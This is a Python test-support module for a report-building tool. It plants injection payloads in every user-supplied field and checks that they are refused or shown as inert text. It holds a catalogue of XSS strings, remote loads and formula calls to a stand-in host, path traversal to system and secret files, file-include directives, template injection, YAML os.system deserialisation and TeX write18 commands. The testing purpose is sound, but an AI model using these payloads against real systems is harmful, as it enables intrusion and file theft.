"""A case in which every field that a user brings holds an attack, and what is demanded of the report that it becomes.

Each attack that the case's check lets in ends in a word of its own, so that wherever a reader, a file or a program meets that word,
the attack must stand before it, whole and as text. Canaries tell whether one ran: a global name in the page, a host that nothing
may ask for, and a file of the machine whose only word may stand nowhere.
"""

import csv
import json
import re
import shutil
from collections import Counter
from pathlib import Path
from typing import NamedTuple

import cases
import pandas as pd
import scratch
import yaml

from sourcebook import bibliography, commentary, rules
from sourcebook.casefile import SCHEMA, read_casefile
from sourcebook.check import check
from sourcebook.formats import VALUE
from sourcebook.schema import Schema

SECRET = (
    "quokka" + "lantern"
)  # the only word of a file that lies outside the checkout; not whole here, since a package has the tests
HOST = "hostile.invalid"
RUN = "window.pwned=1"
LONG = 10_000  # characters, more than a cell may have
TEXTS = {  # kind -> texts; § is the path of the file with the secret
    "HTML and scripts": [
        f"<script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f'<img src=x onerror="{RUN}">',
        f"<b onmouseover='{RUN}'>*bold*</b> <details open ontoggle={RUN}>",
        f"<!-- --><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
        f'"><script>{RUN}</script>',
        f"' onfocus={RUN} autofocus='",
        f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
        "]]><!--",
    ],
    "SVG, CSS and meta": [
        f"<svg onload={RUN}><script>{RUN}</script></svg>",
        f"<svg><use href='http://{HOST}/x.svg#a'/><image href='file://§'/></svg>",
        f"</style><style>@import url(http://{HOST}/a.css); body{{background:url(http://{HOST}/b)}}</style>",
        f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
        f"<base href=http://{HOST}/><link rel=stylesheet href=//{HOST}/x.css>",
        f"<object data=http://{HOST}/o><embed src=http://{HOST}/e><form action=http://{HOST}/f><input name=a>",
    ],
    "addresses": [
        f"[link](javascript:{RUN})",
        f"<javascript:{RUN}> [a]: javascript:{RUN}",
        f"[link](data:text/html,<script>{RUN}</script>)",
        f"[link](vbscript:{RUN}) [j](JaVaScRiPt:{RUN}) [t](java&Tab;script:{RUN})",
        f"javascript:{RUN}",
        f"![picture](http://{HOST}/p.png) ![](//{HOST}/q.png)",
        "![picture](§) [file](file://§) ![](../../../../../../../../§)",
        "..//..//..//etc/passwd ..\\..\\windows\\win.ini CON NUL.txt aux",
    ],
    "roles and directives": [
        "{download}`secret <§>` {download}`§`",
        "{raw:html}`<b>` {eval-rst}`x` {computed}`claims/finding` {case}`title` {ref}`nowhere` {cite:p}`nobody`",
        "```{include} §\n```",
        "```{literalinclude} §\n```",
        f"```{{raw}} html\n<script>{RUN}</script>\n```",
        "```{csv-table} t\n:file: §\n```",
        f"```{{csv-table}} t\n:url: http://{HOST}/t.csv\n```",
        "```{eval-rst}\n.. include:: §\n.. raw:: html\n   :file: §\n```",
        "```{image} §\n```",
        f"```{{figure}} http://{HOST}/f.png\n```",
        ":::{include} §\n:::",
        ".. include:: §",
        "`code` ``{raw}`` ```` ```",
        "(target)=\n# A heading of the cell's",
    ],
    "templates": [
        "{{ 7*7 }} {{ [].__class__.__base__.__subclasses__() }}",
        "{% raw %}{% include '§' %}{% endraw %} ${7*7} #{7*7} <%= 7*7 %>",
        "---\nmyst:\n  enable_extensions: [substitution]\n  substitutions: {a: b}\n---\n{{ a }}",
        "{finding} {0} {n_claims} %(title)s %s |sub| $PATH $(id) `id`",
    ],
    "YAML": [
        "!!python/object/apply:os.system ['id']",
        "&a [*a, *a] *b << : {a: b}",
        "NO",
        "010",
        "1_0",
        "null",
        "NA",
        "~",
        "- item: [1, 2",
        "key: value # comment",
    ],
    "TeX": [
        "\\input{§} \\immediate\\write18{id} $\\href{javascript:window.pwned=1}{x}$",
        "$$\\begin{x}\\end{x}$$ \\def\\a{\\a}\\a \\unicode{x41}",
        "100 % & # _ ^ ~ \\ } { \\verb|x|",
    ],
    "spreadsheet formulas": [
        "=HYPERLINK(\"http://hostile.invalid/\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "=WEBSERVICE(\"http://hostile.invalid/\")",
        "＝1+1",
        "sep=;",
    ],
    "chart expressions": [
        "datum['a.b'] datum.x[0]",
        "[a][0].b\\.c",
        "{\"signal\": \"window.pwned=1\"}",
        "signal(1) + eval('window.pwned=1') ${datum.x}",
        "{\"expr\": \"warn('x')\"}",
    ],
    "marks that nobody sees": [
        "a\u202egpj.exe\u202c b\u2066c\u2069",
        "zero\u200bwidth\u200d\ufeff\u00ad join",
        "\u0130\u0131\u017f\ufb01\u1e9e e\u0301\u0323 \U000e0041",
    ],
    "marks that break a file": [
        "nul \x00 here",
        "bell \x07 escape \x1b[31m",
        "line \u2028 separator",
        "half \ud800 a letter",
        "not a letter \uffff",
    ],
    "size and depth": [
        "x" * 1_000_000,
        "<b>" * 100_000,
        ">" * 100_000,
        "*a" * 50_000,
        "[" * 50_000,
        "`" * 50_001,
        "* > " * 200 + "a",
    ],
}  # fmt: skip
KINDS = list(TEXTS)
RATED = {"consistency": "C", "ratings": "R"}  # table and the letter of the items that its first row rates
NAMED = {"actor_id": "actors", "source_id": "sources", "hypothesis_id": "hypotheses"}
LINES = KINDS[:-2]  # those that a line of text may hold


class Attack(NamedTuple):
    """One text in one field. `text` ends in `mark`, a word that no other field has."""

    sink: str
    kind: str
    text: str
    mark: str


def attacks(secret: Path) -> list[tuple[str, str]]:
    """Kind and text of each attack."""
    return [(kind, text.replace("§", str(secret))) for kind, texts in TEXTS.items() for text in texts]


def columns() -> dict[str, list[str]]:
    """The columns of each table, as the schema has them: a new one is attacked without anyone's remembering it."""
    return {
        resource["name"]: [field["name"] for field in resource["schema"]["fields"]]
        for resource in cases.descriptor()["resources"]
    }


def _key(rows: list[dict], number: int) -> str:
    """A key of the form that the table's other keys have."""
    first = next(iter(rows[0].values()))
    if first.isdigit():
        return str(len(rows) + 1 + number)
    found = re.fullmatch(r"([A-Z])\d+", first)
    return f"{found[1]}{500 + number}" if found else f"zq{number}"


# The small case has a tent among its words, which no typeface of the printed report has.
TENT = str.maketrans("🎪", "§")
PARAGRAPHS = [text.translate(TENT) for _, _, text in cases.PARAGRAPHS]


def printable(row: dict[str, str]) -> dict[str, str]:
    """A row of the small case, anchored in the text without the tent."""
    row = {column: cell.translate(TENT) for column, cell in row.items()}
    if row.get("digest"):
        text = PARAGRAPHS[int(row["paragraph"]) - 1]
        row["digest"] = cases.digest(text[int(row["start"]) : int(row["end"])])
    return row


class Case:
    """The case, in a checkout of its own; `planted` are the attacks that it holds, `refused` counts those that it does not let in
    by sink and kind, and `secret` is the file that nobody may read.
    """

    def __init__(self, parent: Path):
        self.top = scratch.checkout(parent / "checkout")
        self.secret = parent / "secret.txt"
        self.secret.write_text(f"{SECRET}\n", "utf-8")
        shutil.rmtree(self.top / "data")
        self.record = cases.write(self.top / "data")
        self.attacks = attacks(self.secret)
        self.keys: list[str] = []  # of the bibliography
        self.columns = columns()
        self.base = {table: [printable(row) for row in self.record.rows(table)] for table in self.columns}
        self.planted: list[Attack] = []
        self.marks = 0
        self.numbers: dict[str, int] = {}  # key of a planted row -> number of its attack
        self.refused: list[tuple[str, str]] = []

    def settings(self) -> None:
        """The book is about this case, and its title and author are attacks too."""
        path = self.top / "_config.yml"
        config = yaml.safe_load(path.read_text("utf-8"))
        config["sphinx"]["config"]["sourcebook_case"] = "data/fair"
        for key in ("title", "author"):
            config[key] = self.joined("_config.yml")
        path.write_text(yaml.safe_dump(config, allow_unicode=True), "utf-8")

    def plant(self, sink: str, kind: str, text: str) -> str:
        """The text with a word of its own behind it, kept among what was planted."""
        self.marks += 1
        mark = f"zq{self.marks:05}"
        self.planted.append(Attack(sink, kind, f"{text} {mark}", mark))
        return f"{text} {mark}"

    def joined(self, sink: str) -> str:
        """All attacks that one line can hold, one after the other."""
        return " ".join(self.plant(sink, kind, " ".join(text.split())) for kind, text in self.attacks if kind in LINES)

    def probe(self, texts: list[str]) -> list[set[tuple[str, str]]]:
        """For each text, table and column of every cell that lets it in.

        Each is tried in a row of its own, all of them in one check, which has to name file, row and column of the others.
        """
        places = {}
        for table, names in self.columns.items():
            rows, line = [*self.base[table]], len(self.base[table]) + 2
            for which, text in enumerate(texts):
                for column in names:
                    rows.append(self.row(table, len(rows), {column: text}))
                    places[f"{table}.csv", line] = which, table, column
                    line += 1 + text.count("\n")
            self.write(table, rows)
        told = {(fault.file, fault.row, fault.column) for fault in check(self.record.folder)}
        unread = {file for file, line, _ in told if line is None}  # refused as a whole
        for table in self.columns:
            self.write(table, self.base[table])
        found: list[set] = [set() for _ in texts]
        for (file, line), (which, table, column) in places.items():
            if (file, line, column) not in told and file not in unread:
                found[which].add((table, column))
        return found

    def row(self, table: str, number: int, values: dict[str, str]) -> dict:
        """A row like the table's first, under a key of its own, with other values."""
        key = next(iter(self.base[table][0]))
        return dict(self.base[table][0]) | {key: _key(self.base[table], number)} | values

    def key(self, table: str, row: dict) -> str:
        """The key that a table has for the attack of a row of another table."""
        return _key(self.base[table], self.numbers[next(iter(row.values()))])

    def write(self, table: str, rows: list[dict], head: list[str] = ()) -> None:
        path = self.record.folder / f"{table}.csv"
        with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as file:
            csv.writer(file, lineterminator="\n").writerow(head or self.columns[table])
            csv.DictWriter(file, self.columns[table], lineterminator="\n").writerows(rows)

    def fill(self) -> None:
        """Put every attack into every cell that lets it in; what a check then refuses is taken out again."""
        kept = [(kind, f"{text} zq00000") for kind, text in self.attacks if kind in LINES]
        large = [(kind, f"{text} zq00000") for kind, text in self.attacks if kind not in LINES]
        opened = self.probe([text for _, text in kept]) + [self.probe([text])[0] for _, text in large]
        everywhere = sum(map(len, self.columns.values()))
        rows = {table: [*found] for table, found in self.base.items()}
        paragraphs, sown = [*PARAGRAPHS], {}
        for number, ((kind, text), cells) in enumerate(zip(kept + large, opened)):
            text = text.removesuffix(" zq00000")
            self.refused += [("tables", kind)] * (everywhere - len(cells))
            if not cells:
                continue
            paragraphs.append(self.plant("article", kind, " ".join(text.split())))
            place = {"paragraph": str(len(paragraphs)), "start": "0", "end": str(len(paragraphs[-1])),
                     "digest": cases.digest(paragraphs[-1])}  # fmt: skip
            for table, names in self.columns.items():
                free = [column for column in names if (table, column) in cells and column != "quote"]
                planted = {column: self.plant("tables", kind, text) for column in free}
                row = self.row(table, number, planted)
                sown |= {(table, row[names[0]], column): planted[column] for column in free}
                if "digest" in names:
                    row |= {column: value for column, value in place.items() if column in names}
                if "quote" in names:  # it has to stand in its passage
                    row["quote"] = paragraphs[-1] if (table, "quote") in cells else ""
                    row["mode"] = row["mode"] if row["mode"] == "own" else "mixed" if row["quote"] else "indirect"
                if table in RATED:  # each item may be rated once
                    row["item_id"] = f"{RATED[table]}{500 + number}"
                if table == "paragraphs":
                    row |= {"paragraph": place["paragraph"], "length": place["end"], "kind": "body"}
                    sown |= {(table, place["paragraph"], column): planted[column] for column in free}
                self.numbers[row[names[0]]] = number
                rows[table].append(row)
        self.record.print_article("\n\n".join(paragraphs) + "\n", adopt=True)
        shutil.copy(self.record.article, self.record.folder / "article.txt")
        self.record.meta(article=self.record.read_meta()["article"] | {"text": "article.txt"})
        for _ in range(3):
            for table in self.columns:
                self.write(table, rows[table])
            faults, lines = check(self.record.folder), {}
            for table in self.columns:
                line = 2
                for row in rows[table]:
                    lines[f"{table}.csv", line] = table, row
                    line += 1 + sum(value.count("\n") for value in row.values())
            for fault in faults:
                table, row = lines.get((fault.file, fault.row), ("", {"": ""}))
                planted = sown.get((table, next(iter(row.values())), fault.column))
                assert planted, f"not for what was planted: {fault}"
                if row[fault.column] == planted:
                    # A row names its own attack's actor, source and hypothesis, so that these come into the charts.
                    other = NAMED.get(fault.column)
                    row[fault.column] = self.key(other, row) if other else self.base[table][0][fault.column]
                    attack = next(each for each in self.planted if each.text == planted)
                    self.planted.remove(attack)
                    self.refused.append(("tables", attack.kind))
            if not faults:
                return

    def settle(self) -> None:
        """Put the attacks into everything that is not a table."""
        self.settings()
        self.meta()
        self.described()
        self.cited()
        self.commented()
        self.varied()

    def meta(self) -> None:
        """case.yml: each key that takes any text gets all attacks; of each other key it is tried whether it lets one in."""
        sound, full = self.record.read_meta(), self.record.read_meta()
        for path in leaves(SCHEMA):
            if self._lets(sound, path, "plain words"):
                _set(full, path, self.joined("case.yml"))
                continue
            for kind, text in self.attacks:
                if kind in LINES:
                    assert not self._lets(sound, path, text), f"case.yml, {path} lets {text[:40]} in"
                    self.refused.append(("case.yml", kind))
        full["authors"] = [
            {"name": self.plant("case.yml", kind, text), "affiliation": self.plant("case.yml", kind, text)}
            for kind, text in self.attacks
            if kind in LINES
        ]
        full["keywords"] = [self.plant("case.yml", kind, text) for kind, text in self.attacks if kind in LINES]
        full["coders"] = {name: self.joined("case.yml") for name in ("first", "second")}
        (self.record.folder / "case.yml").write_text(yaml.safe_dump(full, allow_unicode=True, sort_keys=False), "utf-8")

    def _lets(self, sound: dict, path: tuple[str, ...], text: str) -> bool:
        """Whether case.yml may have this text at a key."""
        changed = json.loads(json.dumps(sound))
        _set(changed, path, text)
        (self.record.folder / "case.yml").write_text(
            json.dumps(changed, ensure_ascii=False), "utf-8", "surrogatepass"
        )  # JSON is YAML, and quicker to write
        meta, faults = read_casefile(self.record.folder)
        if meta:  # what names a row is held against the rows
            tables = {table: pd.DataFrame(found) for table, found in self.base.items()}
            faults = rules.casefile(meta, tables, Schema.read(self.record.folder))
        assert all(fault.column for fault in faults)
        return not faults

    def described(self) -> None:
        """datapackage.json: titles, descriptions and the labels of codes, each with another attack."""
        path = self.record.folder / "datapackage.json"
        package = json.loads(path.read_text("utf-8"))
        turns = [attack for attack in self.attacks if attack[0] in LINES]
        used: dict[tuple, str] = {}

        def next_(*place: str) -> str:
            if place not in used:
                kind, text = turns[len(used) % len(turns)]
                used[place] = self.plant("datapackage.json", kind, text)
            return used[place]

        package["title"], package["description"] = next_("title"), next_("description")
        for resource in package["resources"]:
            resource["title"] = next_("title", resource["name"])
            resource["description"] = next_("description", resource["name"])
            for field in resource["schema"]["fields"]:
                field["description"] = next_("description", resource["name"], field["name"])
                for code in field.get("categories", []):
                    code["label"] = next_("label", field["name"], str(code["value"]))
        path.write_text(json.dumps(package), "utf-8")

    def cited(self) -> None:
        """references.bib: an entry for each attack that BibTeX can hold, in every field that the report prints."""
        path, sound = self.record.folder / "references.bib", cases.BIBLIOGRAPHY
        kept, keys = sound, []
        for number, (kind, text) in enumerate(self.attacks):
            if kind not in LINES:
                continue
            path.write_text(f"{sound}@misc{{hostile, url = {{{text}}}}}\n", "utf-8")  # no attack is an address
            assert rules.references({}, self.record.folder)
            self.refused.append(("references.bib", kind))
            fields = {field: f"{text} zq{self.marks + place + 1:05}" for place, field in enumerate(BIB)}
            lines = ", ".join(f"{field} = {{{value}}}" for field, value in fields.items())
            entry = f"@misc{{hostile{number}, {lines}, year = {{2031}}}}\n"
            path.write_text(sound + entry, "utf-8")
            try:
                sane = (
                    not rules.references({}, self.record.folder) and len(bibliography.entries(self.record.folder)) == 2
                )
            except Exception as error:  # noqa: BLE001 - reported below
                raise AssertionError(f"{text!r} in references.bib: {error!r}") from error
            if not sane:
                self.refused += [("references.bib", kind)] * len(BIB)
                continue
            for _ in BIB:
                self.plant("references.bib", kind, text)
            kept += entry
            keys.append(f"hostile{number}")
        path.write_text(kept, "utf-8")
        self.keys = keys

    def commented(self) -> None:
        """commentary/claims.md: a paragraph for each attack that commentary may hold; the others are told with a line."""
        path = self.record.folder / "commentary/claims.md"
        held = [cases.COMMENTARY, "Cited: " + " ".join(f"{{cite:p}}`{key}`" for key in self.keys)]
        for kind, text in self.attacks:
            try:
                path.write_text(text, "utf-8")
                faults = commentary.faults(path, {"finding", "n_claims"})
            except UnicodeEncodeError:
                path.write_bytes(text.encode("utf-8", "surrogatepass"))
                faults = commentary.faults(path, {"finding", "n_claims"})
            if faults:
                assert all(
                    fault.file == "commentary/claims.md" and (fault.row or "UTF-8" in fault.found) for fault in faults
                )
                self.refused.append(("commentary", kind))
            else:
                held.append(self.plant("commentary", kind, text))
        path.write_text("\n\n".join(held) + "\n", "utf-8")

    def varied(self) -> None:
        """multiverse.yml: two axes, whose every label and reason are attacks, so that the chapter on robustness shows them."""
        axes = {
            name: {
                "label": self.joined("multiverse.yml"),
                "because": self.joined("multiverse.yml"),
                "values": [{"value": value, "label": self.joined("multiverse.yml")} for value in values],
            }
            for name, values in AXES.items()
        }
        self.record.folder.joinpath("multiverse.yml").write_text(
            yaml.safe_dump({"outcomes": OUTCOMES, "axes": axes}, allow_unicode=True), "utf-8"
        )

    def headers(self, place: int, bend) -> list[str]:
        """The tables, each of which was refused with one column's name bent, the `place`th or so."""
        for number, (table, names) in enumerate(self.columns.items()):
            which = (place + number) % len(names)
            self.write(table, self.base[table], [*names[:which], bend(names, names[which]), *names[which + 1 :]])
        told = {fault.file for fault in check(self.record.folder)}
        for table in self.columns:
            assert f"{table}.csv" in told, (table, place, bend(self.columns[table], self.columns[table][0])[:60])
            self.write(table, self.base[table])
        return [*self.columns]


AXES = {"min_reliability": ["F", "E"], "attribution": ["implied", "explicit"]}
OUTCOMES = {
    "claims": ["n_claims", "n_conflict"],
    "hypotheses": ["leaders", "margin", "n_items", "score_*"],
    "reactions": ["n_for", "n_against"],
}
FORMS = ("name", "anchor", "type", "case")  # keys by which a report's parts are found, and so left as they are


class Stranger:
    """A copy of a report, as somebody else may hand it over: every text in what its notebooks say, in the names of its values
    and in its parameters is an attack. `planted` counts them by kind.
    """

    def __init__(self, report: Path, folder: Path, secret: Path):
        self.attacks, self.planted = attacks(secret), Counter()
        shutil.copytree(report / "notebooks", folder / "notebooks")
        given = json.loads((report / "parameters.json").read_text("utf-8"))
        strange = {self.next(): self.next() for _ in self.attacks}
        (folder / "parameters.json").write_text(json.dumps(given | strange), "utf-8")
        for path in sorted((folder / "notebooks").glob("*.ipynb")):
            notebook = json.loads(path.read_text("utf-8"))
            for output in (output for cell in notebook["cells"] for output in cell.get("outputs", ())):
                output["data"] = {form: self.bent(form, said) for form, said in output.get("data", {}).items()}
                if "scrapbook" in output["metadata"] and self.planted.total() % 3:
                    output["metadata"]["scrapbook"]["name"] = self.next()
            path.write_text(json.dumps(notebook), "utf-8")

    def next(self) -> str:
        """The next attack; the large ones three times each."""
        number = self.planted.total()
        kind, text = self.attacks[number % len(self.attacks)]
        if kind == KINDS[-1] and number > 3 * len(self.attacks):
            kind, text = self.attacks[number % 50]
        self.planted[kind] += 1
        return text

    def bent(self, form: str, said):
        """Something said, each text in it an attack; a named value is JSON in a text."""
        if form == f"{VALUE}application/json":
            return json.dumps(self.bent("", json.loads("".join(said))))
        if isinstance(said, dict):
            return {key: value if key in FORMS else self.bent("", value) for key, value in said.items()}
        if isinstance(said, list):
            return [self.bent("", each) for each in said]
        return self.next() if isinstance(said, str) else said


BIB = ("title", "author", "publisher", "howpublished", "note")


def leaves(schema: dict, path: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    """The keys of case.yml that hold one text, as its schema has them; lists and mappings of free names apart."""
    found = []
    for key, value in schema.get("properties", {}).items():
        if value.get("type") == "object":
            found += leaves(value, (*path, key))
        elif value.get("type") == "string":
            found.append((*path, key))
    return found


def _set(meta: dict, path: tuple[str, ...], value: str) -> None:
    *above, key = path
    for name in above:
        meta = meta.setdefault(name, {})
    meta[key] = value
